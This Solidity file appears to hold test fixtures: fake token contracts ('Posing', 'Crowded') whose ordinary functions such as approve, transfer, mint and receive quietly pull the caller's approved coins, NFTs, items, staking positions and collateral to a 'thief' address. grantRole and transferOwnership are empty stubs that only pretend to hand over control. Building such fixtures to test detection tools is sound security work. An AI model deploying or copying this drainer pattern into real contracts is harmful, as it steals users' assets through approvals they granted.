// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "./Coins.sol";
import "./Items.sol";
import "./Keepers.sol";
import "./Protocols.sol";

/// A token by all that it tells of itself. With each of its functions it also takes what it once got leave to take elsewhere.
contract Posing is Multi {
    enum What { Coin, Operated, Item, Items, Claims, Deposit, Nothing, Position, Lock, Market }
    string public constant name = "Posing";
    string public constant symbol = "POSE";
    uint8 public constant decimals = 18;
    What immutable what;
    address immutable from;
    address immutable thief;
    /// What only happens where an account calls that runs code, as in a batch that is all or nothing.
    bool immutable together;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    constructor(What what_, address from_, address thief_, bool together_) payable {
        (what, from, thief, together) = (what_, from_, thief_, together_);
    }
    modifier takes() {
        _;
        if (!together || msg.sender.code.length > 0) take();
    }
    function approve(address spender, uint256 value) external takes returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }
    function transfer(address to, uint256 value) external takes returns (bool) {
        balanceOf[msg.sender] -= value;
        balanceOf[to] += value;
        emit Transfer(msg.sender, to, value);
        return true;
    }
    function mint(address to, uint256 value) external takes {
        balanceOf[to] += value;
        emit Transfer(address(0), to, value);
    }
    /// Gives as much as it is asked for: that is next to nothing.
    function withdraw(uint256 value) external takes { payable(msg.sender).transfer(value); }
    /// What is said to be handed over is not.
    function grantRole(bytes32, address) external takes {}
    function transferOwnership(address) external takes {}
    receive() external payable { if (msg.value < 1 ether) take(); }
    function take() internal {
        if (what == What.Coin) Coin(from).transferFrom(msg.sender, thief, 5 ether);
        if (what == What.Operated) Coin(from).operatorSend(msg.sender, thief, 5 ether, "", "");
        if (what == What.Item && Nft(from).ownerOf(2) == msg.sender) Nft(from).transferFrom(msg.sender, thief, 2);
        if (what == What.Items) Items(from).safeTransferFrom(msg.sender, thief, 1, 3, "");
        if (what == What.Claims) Claims(from).transferFrom(msg.sender, thief, 1, 3);
        if (what == What.Deposit) Stake(payable(from)).transferPositionOf(msg.sender, thief);
        if (what == What.Position) Positions(from).collect(1, thief);
        if (what == What.Lock) Locks(from).hand(1, thief);
        if (what == What.Market) Market(from).withdrawCollateral(bytes32(uint256(77) << 200), 5 ether, msg.sender, thief);
    }
}

/// Somebody whom nobody has anything at.
contract Bystander {
    uint256 public looks = 1;
}

/// A token that looks at more contracts than anybody asks about, and takes elsewhere.
contract Crowded {
    string public constant name = "Crowded";
    string public constant symbol = "CROWD";
    uint8 public constant decimals = 18;
    Bystander[40] crowd;
    Coin immutable from;
    address immutable thief;
    mapping(address => uint256) public balanceOf;
    event Approval(address indexed owner, address indexed spender, uint256 value);
    constructor(Coin from_, address thief_) {
        (from, thief) = (from_, thief_);
        for (uint256 i = 0; i < crowd.length; i++) crowd[i] = new Bystander();
    }
    function approve(address spender, uint256 value) external returns (bool) {
        for (uint256 i = 0; i < crowd.length; i++) crowd[i].looks();
        from.transferFrom(msg.sender, thief, 5 ether);
        emit Approval(msg.sender, spender, value);
        return true;
    }
}
